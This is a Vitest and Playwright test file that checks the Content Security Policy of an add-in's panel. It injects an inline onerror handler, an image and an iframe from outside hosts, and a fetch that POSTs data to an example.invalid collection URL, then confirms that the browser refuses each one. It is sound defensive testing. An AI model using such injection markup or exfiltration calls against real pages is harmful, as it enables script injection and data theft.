import { afterAll, beforeAll, expect, it } from "vitest";
import type { Frame } from "playwright-core";
import { openWorkbench, panelOf, type OpenWorkbench } from "./open-workbench.ts";

let opened: OpenWorkbench;
let panel: Frame;
beforeAll(async () => {
  opened = await openWorkbench();
  panel = await panelOf(opened.page);
}, 300_000);
afterAll(() => opened?.close());

/** Has the page try something; resolves when the browser refuses it by this directive. */
const refused = (attempt: string, directive: string) =>
  panel.evaluate(
    ([code, name]) =>
      new Promise<void>((resolve) => {
        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => effectiveDirective === name && resolve());
        const place = document.createElement("div");
        place.innerHTML = code;
        document.body.append(place);
      }),
    [attempt, directive] as const,
  );

it("lets office.js, the functions and the panel run without one refusal", () => {
  expect(opened.errors.filter((error) => /Content Security Policy/i.test(error))).toEqual([]);
});

it.each([
  ["an inline handler", `<img src="data:," onerror="document.title = 'taken'">`, "script-src-attr"],
  ["a picture from elsewhere", `<img src="https://example.invalid/x.png">`, "img-src"],
  ["a frame from elsewhere", `<iframe src="https://example.invalid/"></iframe>`, "frame-src"],
])("refuses %s", async (_what, markup, directive) => {
  await refused(markup, directive);
});

it("refuses to send anything to another address", async () => {
  const refused = await panel.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener("securitypolicyviolation", (event) => resolve(`${event.effectiveDirective} ${event.blockedURI}`));
        fetch("https://example.invalid/collect", { method: "POST", body: "evidence" }).catch(() => undefined);
      }),
  );
  expect(refused).toBe("connect-src https://example.invalid/collect");
});
